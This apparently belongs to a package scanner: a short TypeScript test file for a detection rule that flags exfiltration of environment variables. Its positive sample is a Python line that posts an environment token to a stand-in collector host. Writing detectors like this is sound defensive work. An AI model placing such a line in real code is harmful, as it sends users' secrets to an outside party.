import { testRule } from '../../../../../test/builders/python-package.ts';
import { variableExfiltration } from './rule.ts';

testRule(variableExfiltration, {
  seen: {
    'one variable':
      "import os, requests\nrequests.post('https://collector.example.invalid', json={'t': os.environ['DEMO_TOKEN']})",
  },
  unseen: {
    'the name of a folder':
      "import os, requests\nrequests.get('https://collector.example.invalid', cert=os.environ['HOME'])",
  },
});
